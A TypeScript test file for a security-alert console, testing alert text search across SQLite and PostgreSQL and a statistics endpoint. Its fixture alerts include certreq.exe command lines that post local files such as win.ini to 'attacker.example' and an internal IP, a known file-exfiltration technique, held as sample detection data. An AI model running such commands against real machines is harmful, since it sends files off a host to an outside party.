/**
 * The console's two server additions: the `q` free-text alert filter (on SQLite and PostgreSQL for real: the
 * LIKE escaping and JSON-escaped backslashes must agree on both) and GET /api/stats (buckets, top lists, exact
 * status counts, the scan bound).
 */
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import Fastify from 'fastify';
import { SqliteStore, type NewAlert, type Store } from '../../src/store/index.js';
import { textPattern } from '../../src/store/rows.js';
import { aggregate, bucketWidth, registerStatsRoutes, STATS_MAX_BUCKETS, type StatsAnswer } from '../../src/server/statsRoutes.js';
import { freeText, MAX_QUERY_CHARS } from '../../src/server/apiRoutes.js';
import { HttpError } from '../../src/server/errors.js';
import { contractValidator, validationError } from '../../src/server/validation.js';
import { freshStore, requirePostgres } from '../scale/support/services.js';

const cleanups: (() => Promise<void>)[] = [];
after(async () => {
  for (const c of cleanups) await c().catch(() => {});
});
before(requirePostgres);

function alert(id: string, over: { host?: string; severity?: NewAlert['severity']; time?: string; cmd: string; rule?: string }): NewAlert {
  const rule = over.rule ?? 'certreq-download-upload';
  return {
    id,
    eventKey: `k-${id}`,
    ruleId: rule,
    severity: over.severity ?? 'high',
    time: over.time ?? '2024-05-01T10:00:00.0000000Z',
    host: over.host ?? 'WS01.corp.example',
    suppressed: false,
    doc: { rule: { id: rule, name: `Title of ${rule}` }, process: { command_line: over.cmd, executable: 'C:\\Windows\\System32\\certreq.exe' } },
  };
}

const ALERTS: NewAlert[] = [
  alert('a1', { cmd: 'certreq -Post -config https://attacker.example/ C:\\Windows\\win.ini out.txt' }),
  alert('a2', { cmd: 'certreq -Post -config http://10.0.0.5/ "C:\\Users\\Public\\100%_done.txt" r.txt', host: 'WS02', time: '2024-05-01T12:30:00Z', severity: 'critical' }),
  alert('a3', { cmd: 'certreq -submit req.txt', host: 'WS02', time: '2024-05-01T13:59:59.999Z', severity: 'low', rule: 'certreq-renamed' }),
  alert('a4', { cmd: 'CertReq.exe -Post -config https://FILES.example/ x y', host: 'WS03', time: '2024-05-01T10:05:00Z' }),
];

const backends: [string, () => Promise<Store>][] = [
  ['sqlite', async () => new SqliteStore({ path: ':memory:' })],
  [
    'postgresql',
    async () => {
      const s = await freshStore();
      cleanups.push(() => s.drop());
      return s;
    },
  ],
];

async function ids(store: Store, text: string): Promise<string[]> {
  return (await store.listAlerts({ text, limit: 100, offset: 0 })).items.map((a) => a.id).sort();
}

for (const [name, open] of backends) {
  test(`${name}: q finds text anywhere in the alert, case-insensitively, with backslashes, quotes, % and _ taken literally`, async () => {
    const store = await open();
    try {
      await store.commit([], { alerts: ALERTS, actions: [] });
      assert.deepEqual(await ids(store, 'attacker.example'), ['a1']);
      assert.deepEqual(await ids(store, 'C:\\Windows\\win.ini'), ['a1'], 'a path with backslashes as typed');
      assert.deepEqual(await ids(store, 'c:\\users\\public'), ['a2'], 'case-insensitive');
      assert.deepEqual(await ids(store, '100%_done'), ['a2']);
      assert.deepEqual(await ids(store, '%'), ['a2'], '% is a character, not a wildcard');
      assert.deepEqual(await ids(store, '%_d'), ['a2'], '_ is a character, not a wildcard');
      assert.deepEqual(await ids(store, '"C:\\Users'), ['a2'], 'a double quote as typed');
      assert.deepEqual(await ids(store, 'files.EXAMPLE'), ['a4']);
      assert.deepEqual(await ids(store, 'Title of certreq-renamed'), ['a3'], 'the rule title');
      assert.deepEqual(await ids(store, 'nothing-like-this'), []);
      // Combined with the other filters.
      assert.deepEqual((await store.listAlerts({ text: 'certreq', host: 'ws02', limit: 10, offset: 0 })).items.map((a) => a.id).sort(), ['a2', 'a3']);
    } finally {
      if (name !== 'postgresql') await store.close();
    }
  });
}

test('textPattern escapes LIKE wildcards and JSON-escapes like the stored document', () => {
  assert.equal(textPattern('C:\\Win'), '%c:\\\\\\\\win%');
  assert.equal(textPattern('50%_'), '%50\\%\\_%');
});

test('q is trimmed: empty means no filter (its length bound is the schema\'s, checked over HTTP below)', () => {
  assert.equal(freeText('  '), undefined);
  assert.equal(freeText(' x '), 'x');
  assert.equal(freeText('x'.repeat(MAX_QUERY_CHARS)), 'x'.repeat(MAX_QUERY_CHARS));
});

test('bucket width: the smallest step that fits the span in the bucket limit', () => {
  assert.equal(bucketWidth(0, 0), 1_000);
  assert.equal(bucketWidth(0, 59_000), 1_000);
  assert.equal(bucketWidth(0, 60_000), 10_000);
  assert.equal(bucketWidth(0, 24 * 3_600_000), 3_600_000);
  const huge = bucketWidth(0, 100 * 365 * 86_400_000);
  assert.ok(Math.floor((100 * 365 * 86_400_000) / huge) + 1 <= STATS_MAX_BUCKETS);
});

test('GET /api/stats: severity buckets, top rules by title, top hosts, exact status counts; the scan is bounded', async () => {
  const store = new SqliteStore({ path: ':memory:' });
  await store.commit([], { alerts: ALERTS, actions: [] });
  await store.updateAlert('a3', { status: 'closed', reason: 'test', actor: 't' });
  const app = Fastify();
  app.setValidatorCompiler(contractValidator);
  app.setErrorHandler((err: Error, _req, reply) => {
    const invalid = validationError(err);
    return reply.code(invalid?.status ?? (err instanceof HttpError ? err.status : 500)).send({ error: (invalid ?? err).message, field: invalid?.field });
  });
  registerStatsRoutes(app, store, 3);
  try {
    const r = await app.inject({ method: 'GET', url: '/api/stats' });
    assert.equal(r.statusCode, 200);
    const s = r.json() as StatsAnswer;
    assert.equal(s.total, 4);
    assert.equal(s.scanned, 3, 'only the scan limit is read');
    assert.equal(s.truncated, true);
    assert.deepEqual(s.by_status, { open: 3, acknowledged: 0, closed: 1 }, 'status counts are exact whatever the scan limit');
    // The newest 3: a3 (13:59:59.999, low), a2 (12:30, critical), a4 (10:05, high): just under 235 min → 47 buckets of 5 min.
    assert.equal(s.buckets.width_ms, 300_000);
    assert.equal(s.buckets.start[0], '2024-05-01T10:05:00.000Z');
    assert.equal(s.buckets.start.length, 47);
    assert.equal(s.buckets.counts['high']![0], 1);
    assert.equal(s.buckets.counts['critical']![29], 1);
    assert.equal(s.buckets.counts['low']![46], 1);
    assert.equal(Object.values(s.buckets.counts).flat().reduce((a, b) => a + b, 0), 3);
    assert.deepEqual(s.top_hosts, [{ host: 'WS02', count: 2 }, { host: 'WS03', count: 1 }]);
    assert.deepEqual(s.top_rules[0], { rule_id: 'certreq-download-upload', title: 'Title of certreq-download-upload', count: 2 });
    const filtered = (await app.inject({ method: 'GET', url: '/api/stats?host=ws02&q=submit' })).json() as StatsAnswer;
    assert.equal(filtered.total, 1);
    assert.deepEqual(filtered.by_status, { open: 0, acknowledged: 0, closed: 1 });
    const bad = await app.inject({ method: 'GET', url: '/api/stats?severity=urgent' });
    assert.equal(bad.statusCode, 400);
    assert.match(bad.json().error, /severity: expected one of/);
    assert.equal(bad.json().field, 'severity');
    const long = await app.inject({ method: 'GET', url: `/api/stats?q=${'x'.repeat(MAX_QUERY_CHARS + 1)}` });
    assert.equal(long.statusCode, 400, 'q longer than the limit');
    assert.equal(long.json().field, 'q');
    const unknown = await app.inject({ method: 'GET', url: '/api/stats?hostname=ws02' });
    assert.equal(unknown.statusCode, 400, 'an unknown parameter is refused, not ignored');
    assert.deepEqual(unknown.json(), { error: 'unknown query parameter "hostname"', field: 'hostname' });
  } finally {
    await app.close();
    await store.close();
  }
});

test('aggregate of nothing: empty buckets, zero counts', () => {
  const a = aggregate([]);
  assert.deepEqual(a.buckets.start, []);
  assert.equal(a.by_severity['high'], 0);
  assert.deepEqual(a.top_rules, []);
});
